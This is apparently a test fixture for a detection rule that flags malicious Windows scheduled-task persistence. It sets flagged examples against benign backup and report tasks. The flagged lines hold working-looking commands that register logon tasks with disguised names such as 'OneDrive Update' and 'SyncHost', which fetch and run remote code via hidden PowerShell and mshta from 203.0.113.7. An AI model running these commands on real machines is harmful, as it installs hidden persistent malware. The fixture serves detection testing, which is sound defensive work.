# ruleid: ps-scheduled-task-persistence
schtasks /create /sc onlogon /tn "OneDrive Update" /tr "powershell -w hidden -nop -c iex(iwr http://203.0.113.7/u)" /rl highest /f
# ===== block =====
# ruleid: ps-scheduled-task-persistence
$a = New-ScheduledTaskAction -Execute "mshta.exe" -Argument "http://203.0.113.7/t.hta"
# ruleid: ps-scheduled-task-persistence
Register-ScheduledTask -TaskName "SyncHost" -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)
# ===== block =====
# ok: ps-scheduled-task-persistence
schtasks /create /sc daily /st 02:00 /tn "Nightly backup" /tr "C:\Tools\backup.cmd"
# ok: ps-scheduled-task-persistence
$a = New-ScheduledTaskAction -Execute "pwsh.exe" -Argument "-File C:\scripts\report.ps1"
# ok: ps-scheduled-task-persistence
Register-ScheduledTask -TaskName "Report" -Action $a -Trigger (New-ScheduledTaskTrigger -Daily -At 6am)
